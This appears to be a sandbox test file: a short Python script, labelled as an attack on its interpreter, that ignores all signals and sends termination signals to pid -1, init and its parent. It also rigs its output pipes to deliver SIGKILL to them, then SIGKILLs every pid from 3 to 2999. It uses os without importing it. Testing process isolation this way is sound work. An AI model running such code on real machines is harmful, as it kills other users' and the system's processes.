#: attacks: the interpreter that waits for its fork, by signals to parents, groups and owners of pipes
#: profile: run
#: endings: exit 0
import fcntl
import signal

for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
for pid in (-1, 1, os.getppid() or 1, os.getpgid(0) and 1):
    for number in (signal.SIGTERM, signal.SIGCHLD, signal.SIGINT):
        try:
            os.kill(pid, number)
        except OSError:
            pass
for stream in (1, 2):
    for owner in (1, os.getppid() or 1):
        for command, value in ((fcntl.F_SETOWN, owner), (10, signal.SIGKILL), (fcntl.F_SETFL, os.O_ASYNC)):
            try:
                fcntl.fcntl(stream, command, value)
            except OSError:
                pass
for other in range(3, 3000):
    # Without a namespace its own number may be among them.
    if other == os.getpid():
        continue
    try:
        os.kill(other, signal.SIGKILL)
        print("reached somebody")
    except OSError:
        pass
